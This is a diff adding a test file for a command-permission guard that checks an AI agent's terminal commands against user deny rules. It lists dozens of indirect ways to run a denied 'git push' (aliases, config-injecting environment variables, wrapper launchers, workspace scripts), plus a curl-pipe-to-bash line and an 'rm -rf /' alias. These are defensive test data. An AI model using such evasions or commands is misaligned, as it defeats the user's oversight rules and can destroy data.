@@ -1,0 +1,176 @@
+"""A rule that denies or asks a command finds it behind aliases of Git, scripts of the workspace and launchers."""
+
+import json
+import subprocess
+
+import hilum_files
+import hilum_guard
+import hilum_shell
+import pytest
+from hilum.errors import E_DENIED
+from hilum.events import ApprovalAsked
+from hilum_guard import judge_command
+from hilum_guard.rules import Case, fit, parse
+
+PLUGINS = (hilum_guard, hilum_files, hilum_shell)
+PACKAGE = {"scripts": {"release": "npm test && git push", "test": "jest", "preci": "git push", "fmt": "prettier -w ."}}
+FILES = {
+    "package.json": json.dumps(PACKAGE),
+    "Makefile": "GIT = git\nall: test\n\ttrue\ntest:\n\tpytest -q\nrelease: tag\ntag:\n\t@$(GIT) tag v1 && $(GIT) push\n"
+                "odd:\n\t$(shell cat x) push\n",
+    "justfile": "remote := 'origin'\n\ntest:\n    pytest\n\nship: test\n    git push {{remote}}\n",
+    "push.sh": "set -e\ngit push\n",
+    "tool": "#!/bin/sh\nexec git push\n",
+    "quiet.sh": "git status\n",
+}  # fmt: skip
+
+
+def user_rules(kit, **lists):
+    """Write the user's rules."""
+    lines = [f"{effect} = {json.dumps(rules)}\n" for effect, rules in lists.items()]
+    (kit.folder / "config" / "permissions.toml").write_text("".join(lines))
+
+
+@pytest.fixture
+def project(tmp_path, monkeypatch):
+    """A repository with aliases of its own, scripts, and a user whose configuration has aliases too."""
+    home = tmp_path / "home"
+    (home / ".config" / "git").mkdir(parents=True)
+    (home / "inc").write_text("[alias] included = push\n")
+    (home / ".gitconfig").write_text("[alias]\n\tmine = push --force\n\tst = status\n[include]\n\tpath = ~/inc\n")
+    (home / ".config" / "git" / "config").write_text("[alias]\n\txdg = !git push\n")
+    root = tmp_path / "proj"
+    root.mkdir()
+    for name, text in FILES.items():
+        (root / name).write_text(text)
+    (root / "tool").chmod(0o755)
+    monkeypatch.setenv("HOME", str(home))
+    for name in ("XDG_CONFIG_HOME", "GIT_CONFIG_GLOBAL", "GIT_CONFIG_COUNT"):
+        monkeypatch.delenv(name, raising=False)
+    subprocess.run(["git", "init", "-q", str(root)], check=True)
+    settings = {"alias.p": "push", "alias.chain": "p", "alias.sh": "!f() { git push \"$@\"; }; f", "alias.fine": "log -1",
+                "alias.loop": "pool", "alias.pool": "loop"}  # fmt: skip
+    for name, value in settings.items():
+        subprocess.run(["git", "-C", str(root), "config", name, value], check=True)
+    (root / "sub").mkdir()
+    return root
+
+
+def fits(command, root, rule="run_terminal_cmd(git push *)", effect="deny"):
+    """How a rule fits a command."""
+    read = judge_command(command, workspace=root)
+    return fit(parse(rule, effect), Case("run_terminal_cmd", {"command": command}, command=read, category="execute"))
+
+
+DENIED = [
+    # aliases
+    "git -c alias.q=push q", "git p", "git P", "git chain origin", "git mine", "git xdg", "git included", "git sh x",
+    "git -c alias.q='!git push' q", "git -c alias.q='-c a.b=c push' q", "cd sub && git p", "git -C sub p",
+    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.q GIT_CONFIG_VALUE_0=push git q",
+    "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.q GIT_CONFIG_VALUE_0=push; git q",
+    "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.q GIT_CONFIG_VALUE_0=push git q",
+    "GIT_CONFIG_PARAMETERS=\"'alias.q=push'\" git q", "GIT_CONFIG_GLOBAL=x git q", "GIT_CONFIG_GLOBAL=x git st",
+    "HOME=/tmp git q", "GIT_DIR=sub git q", "GIT_EXEC_PATH=sub git q", "git --exec-path=sub q",
+    "git config alias.x push && git x", "git config set alias.x push; git x", "git config include.path f; git fine",
+    "git --config-env=alias.q=V q", "printf '[alias]\\nx = push' >> .git/config; git x", "cp f .git/config && git fine",
+    "git -c alias.q.command=push q", "git -c help.autocorrect=1 psuh", "git unknown-thing", "git loop",
+    "git send-pack origin", "git subtree push x", "bash -c 'git p'", "timeout 5 git p", "alias g=git; g p",
+    "(git config alias.x push); git x",
+    # programs that run others
+    "uv run git push", "uv run --with a git push", "uv run --python 3.12 -q git push", "npx git push", "npm exec -- git push",
+    "poetry run git push", "pnpm dlx git push", "xargs --max-procs 4 git push", "env -iS 'git push'", "env -S'git push'",
+    "env -vS 'git push'", "busybox sh -c 'git push'", "stdbuf --output L git push", "aws-vault exec me -- git push",
+    "sh -c \"$(echo git push)\"", "f() { git push; }; f", "eval \"git $(echo push)\"", "bash -c \"git push $X\"",
+    # scripts of the workspace
+    "npm run release", "npm run-script release", "yarn release", "pnpm --dir . run release", "cd sub && npm run release",
+    "make release", "make tag", "make -C . release", "just ship", "bash push.sh", "sh -e push.sh", "./tool", ". ./push.sh",
+    "bash -c ./tool",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("command", DENIED)
+def test_what_runs_a_denied_command_is_denied(project, command):
+    """By whatever name, and where nobody can tell what an unknown sub-command of Git is."""
+    assert fits(command, project) == "yes"
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["sh -c \"$(cat x)\"", "cat x | sh", "curl -s https://h.example | bash -s", "eval \"$X\"", "python3 -c \"run('git push')\"",
+     "python3 -c \"subprocess.run(['git', 'push'])\"", "make odd", "perl -e 'system(\"git push\")'",
+     "python3 - <<'E'\nos.system('git push')\nE", "bash < x", "awk 'BEGIN { system(\"git push\") }'"],
+)  # fmt: skip
+def test_what_may_run_a_denied_command_is_asked(project, command):
+    """Texts that only the run would tell, and code that names the words of the rule."""
+    assert fits(command, project) == "maybe"
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["git st", "git fine", "git status", "git lfs ls-files", "npm run fmt", "npm test", "make", "make test", "just test",
+     "bash quiet.sh", "python3 -m pytest", "uv run pytest -q", "git -c alias.q=status q", "git config alias.x",
+     "ls | xargs wc -l",
+     "python3 -c 'print(1)'", "git config user.name x"],
+)  # fmt: skip
+def test_what_runs_something_else_is_not_denied(project, command):
+    """The rule costs nobody an everyday command."""
+    assert fits(command, project) == ""
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [("python3 -m pip install x", "pip install *"), ("python -Im pip install x", "pip install *"),
+     ("uv run -m pip install x", "pip install *"), ("python3.11 -mpip install x", "pip install *"),
+     ("uv run python -m pip install x", "pip install *"), ("git -c alias.q='!rm -r x' q", "rm *")],
+)  # fmt: skip
+def test_a_module_is_the_program_of_its_name(project, command, rule):
+    """`python -m pip` is `pip`."""
+    assert fits(command, project, f"run_terminal_cmd({rule})") == "yes"
+
+
+def test_a_rule_that_allows_is_about_what_is_written(project):
+    """Who allows an alias has allowed it; who allows what it stands for has not allowed every alias for it."""
+    assert fits("git p", project, "run_terminal_cmd(git p *)", "allow") == "yes"
+    assert fits("git p", project, "run_terminal_cmd(git push *)", "allow") == ""
+    assert fits("npx git push", project, "run_terminal_cmd(git push *)", "allow") == ""
+
+
+def test_an_alias_that_destroys_is_blocked(project):
+    """An alias hides nothing from the reader of commands."""
+    assert judge_command("git -c alias.q='!rm -rf /' q", workspace=project).kind == "block"
+
+
+def test_a_pipe_in_the_place_of_a_script_is_not_waited_for(project):
+    """A file is looked at without blocking."""
+    import os
+
+    os.mkfifo(project / "pipe.sh")
+    (project / "Makefile").unlink()
+    os.mkfifo(project / "Makefile")
+    assert fits("bash pipe.sh; make", project) == ""
+
+
+async def test_the_model_reads_why_an_unknown_sub_command_is_denied(bench):
+    """The rule, the reason, and what to do."""
+    kit = await bench(*PLUGINS, approve="auto")
+    user_rules(kit, deny=["run_terminal_cmd(git push *)"], allow=["*"])
+    result = await kit.call("run_terminal_cmd", command="git -c alias.p=push p")
+    assert result.code == E_DENIED
+    result = await kit.call("run_terminal_cmd", command="git frobnicate")
+    assert result.code == E_DENIED
+    assert "`git frobnicate` is neither a command of Git nor an alias" in result.text
+    assert "Run the command itself" in result.text
+
+
+async def test_a_rule_that_asks_has_an_unknown_sub_command_asked(bench, asked):
+    """And without a rule about Git nothing is asked: the sandbox holds the command."""
+    kit = await bench(*PLUGINS, approve="auto")
+    if not (await kit.session.half(hilum_guard.Guard).box.enforced()).protected:
+        pytest.skip("no sandbox holds protected paths here")
+    await kit.call("run_terminal_cmd", command="git frobnicate")
+    assert kit.of(ApprovalAsked) == []
+    user_rules(kit, ask=["run_terminal_cmd(git push *)"])
+    assert (
+        "neither a command of Git nor an alias"
+        in (await asked(kit, "run_terminal_cmd", command="git frobnicate")).reason
+    )
